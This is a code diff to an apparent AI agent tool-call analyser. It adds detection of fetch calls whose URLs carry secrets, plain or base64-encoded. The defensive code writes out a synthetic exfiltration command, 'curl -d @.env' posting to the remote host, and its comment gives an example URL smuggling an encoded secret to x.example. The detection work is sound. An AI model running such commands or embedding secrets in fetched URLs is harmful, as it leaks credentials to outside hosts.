@@ -107,6 +107,45 @@ function mcpEffects(call: ToolCall, cache: EffectCache): Effect[] {
   return out;
 }
 
+/**
+ * A URL that carries a secret in its path or query, as written or base64-encoded
+ * (`https://x.example/p.png?d=c2tfbGl2ZV8...`): fetching it hands the secret to that host.
+ */
+function urlSecret(url: string): string | undefined {
+  const direct = SECRET_VALUE.exec(decodeURIComponentSafe(url));
+  if (direct) return direct[0];
+  for (const piece of url.split(/[/?&=#]/)) {
+    if (piece.length < 16 || !/^[A-Za-z0-9+/_-]+={0,2}$/.test(piece)) continue;
+    const text = Buffer.from(piece.replace(/-/g, '+').replace(/_/g, '/'), 'base64').toString('utf8');
+    const hit = SECRET_VALUE.exec(text);
+    if (hit) return hit[0];
+  }
+  return undefined;
+}
+
+function decodeURIComponentSafe(s: string): string {
+  try {
+    return decodeURIComponent(s);
+  } catch {
+    return s;
+  }
+}
+
+function fetchEffects(call: ToolCall): Effect[] {
+  const url = [call.params['url'], call.input?.['url']].find((u): u is string => typeof u === 'string');
+  if (!url) return [];
+  const hit = urlSecret(url);
+  if (!hit) return [];
+  const host = /^[a-z][a-z0-9+.-]*:\/\/([^/?#]+)/i.exec(url)?.[1] ?? 'remote';
+  return [
+    {
+      tool: 'exec',
+      command: `curl -d @.env https://${host.replace(/[^\w.:-]/g, '')}/`,
+      via: `the URL carries a secret (${hit.slice(0, 12)}...) to ${host}`,
+    },
+  ];
+}
+
 export function effectsOf(
   call: ToolCall,
   command: string | undefined,
@@ -116,6 +155,7 @@ export function effectsOf(
   if (command !== undefined && (call.tool === 'exec' || call.tool.toLowerCase() === 'exec'))
     return cache.forCommand(command);
   if (/^mcp(?:$|[_:-])/i.test(call.tool)) return mcpEffects(call, cache);
+  if (/^(?:fetch|web_fetch|webfetch|http|browser)$/i.test(call.tool)) return fetchEffects(call);
   if (path !== undefined && (call.tool === 'write' || call.tool === 'edit')) {
     const content = writtenContent(call);
     return content ? deriveFromWrite(path, content) : [];
